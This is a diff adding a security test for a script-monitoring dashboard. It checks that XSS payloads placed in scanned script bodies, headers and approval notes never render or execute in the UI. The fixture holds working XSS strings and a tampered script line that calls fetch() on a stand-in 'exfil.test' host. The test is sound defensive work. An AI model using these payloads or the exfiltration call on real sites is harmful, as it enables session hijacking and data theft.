@@ -1,0 +1,101 @@
+// Hostile content: scanned bodies, URLs and headers carrying HTML/JS payloads never execute or render as markup.
+
+import assert from 'node:assert/strict';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import puppeteer, { type Browser } from 'puppeteer-core';
+import { createApp, type Dashboard } from '../../dashboard/create-app.js';
+import { findBrowser } from '../../crawler/find-browser.js';
+import { chromiumArgs } from '../../crawler/launch-browser.js';
+import { openStore, type Store } from '../../src/store/open-store.js';
+import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
+import { runCli, tempProject, writeConfig } from '../fixtures/cli.js';
+
+const PAYLOADS = [
+  '</script><script>alert(1)</script>',
+  '<img src=x onerror=alert(2)>',
+  '"><svg onload=alert(3)>',
+  "'><iframe srcdoc='<script>parent.alert(4)</script>'>",
+];
+const BODY = `/* ${PAYLOADS.join(' ')} */\nvar label = "${PAYLOADS[1]!.replace(/"/g, '\\"')}";\nwindow.x = '</script><script>alert(5)</script>';`;
+
+function page(extraScript: string): string {
+  return `<!doctype html><html><head>
+<script src="/js/evil.js?q=%22%3E%3Csvg%20onload=alert(6)%3E"></script>
+<script>var inlinePayload = "${PAYLOADS[0]!.replace(/\//g, '\\/')}";</script>
+${extraScript}</head><body><input autocomplete="cc-number"></body></html>`;
+}
+
+describe('hostile content in the dashboard', () => {
+  let site: FixtureSite;
+  let dir: string;
+  let store: Store;
+  let dashboard: Dashboard;
+  let url: string;
+  let browser: Browser;
+
+  before(async () => {
+    site = await startFixtureSite();
+    site.set('evil.test', '/', { body: page(''), headers: { 'content-security-policy': `script-src 'self' 'unsafe-inline' http://*.test:{{PORT}}; report-uri /r?${PAYLOADS[2]}` } });
+    site.set('evil.test', '/js/evil.js', { body: BODY, headers: { 'x-payload': PAYLOADS[1]!, 'x-other': PAYLOADS[0]! } });
+    dir = tempProject();
+    writeConfig(dir, [{ name: 'evil-shop', url: site.url('evil.test', '/') }]);
+    assert.equal((await runCli(['scan'], { cwd: dir })).code, 0);
+    assert.equal((await runCli(['approve', '--all', '--note', PAYLOADS[3]!, '--by', PAYLOADS[2]!], { cwd: dir })).code, 0);
+    site.set('evil.test', '/js/evil.js', { body: `${BODY}\n// ${PAYLOADS.join('\n// ')}\nfetch('http://exfil.test:{{PORT}}/?${encodeURIComponent(PAYLOADS[2]!)}');`, headers: { 'x-payload': PAYLOADS[2]! } });
+    site.set('evil.test', '/', {
+      body: page(`<script>/* ${PAYLOADS[1]} */ var added = "<\\/script><img src=x onerror=alert(8)>";</script>`),
+      headers: { 'content-security-policy': `script-src * 'unsafe-inline'; report-uri /r?${PAYLOADS[1]}` },
+    });
+    assert.equal((await runCli(['scan'], { cwd: dir })).code, 1);
+
+    store = openStore(join(dir, 'scriptwarden.db'));
+    dashboard = createApp({ store, actor: PAYLOADS[2]! });
+    url = (await dashboard.listen(0, '127.0.0.1')).url;
+    const executablePath = findBrowser({ envExecutablePath: process.env.PUPPETEER_EXECUTABLE_PATH || undefined, home: process.env.HOME });
+    browser = await puppeteer.launch({ executablePath, headless: true, pipe: true, args: chromiumArgs({ executablePath, args: [], resolve: {}, runningAsRoot: process.getuid?.() === 0 }) });
+  });
+  after(async () => {
+    await browser?.close();
+    await dashboard?.close();
+    store?.close();
+    await site?.close();
+  });
+
+  it('renders every page without running or rendering any payload', async () => {
+    const alerts = store.listAlerts({ status: 'all' });
+    assert.ok(alerts.length >= 3, 'the tampered scan raised alerts to look at');
+    const scripts = store.inventory({}).map((r) => store.scriptId(r.target, r.profile, r.subject)!);
+    const paths = ['/', '/alerts', '/alerts?status=all', '/inventory', '/scans', ...alerts.map((a) => `/alerts/${a.id}`), ...scripts.map((id) => `/scripts/${id}`)];
+    const tab = await browser.newPage();
+    const dialogs: string[] = [];
+    tab.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
+    for (const path of paths) {
+      const response = await tab.goto(url + path.slice(1), { waitUntil: 'load' });
+      assert.equal(response?.status(), 200, path);
+      const injected = await tab.evaluate(() => ({
+        svg: document.querySelectorAll('svg').length,
+        img: document.querySelectorAll('img').length,
+        iframe: document.querySelectorAll('iframe').length,
+        scripts: [...document.querySelectorAll('script')].map((s) => s.getAttribute('src')),
+        handlers: [...document.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
+      }));
+      assert.deepEqual(injected, { svg: 0, img: 0, iframe: 0, scripts: ['/static/app.js'], handlers: 0 }, path);
+      const text = await tab.$eval('body', (b) => b.textContent ?? '');
+      if (path.startsWith('/alerts/')) assert.ok(PAYLOADS.some((p) => text.includes(p)) || /onerror|onload/.test(text), `${path} shows the payload as text`);
+    }
+    assert.deepEqual(dialogs, []);
+  });
+
+  it('serves raw bodies as attachments of plain text that browsers must not sniff', async () => {
+    const alert = store.listAlerts({ status: 'all' }).find((a) => a.type === 'script.changed' && a.newValue)!;
+    const response = await fetch(`${url}raw/${alert.newValue}`);
+    assert.equal(response.status, 200);
+    assert.equal(response.headers.get('content-type'), 'text/plain; charset=utf-8');
+    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
+    assert.match(response.headers.get('content-disposition') ?? '', /^attachment/);
+    assert.match(await response.text(), /alert\(1\)/);
+    const page = await fetch(url);
+    assert.match(page.headers.get('content-security-policy') ?? '', /script-src 'self'(;|$)/);
+  });
+});
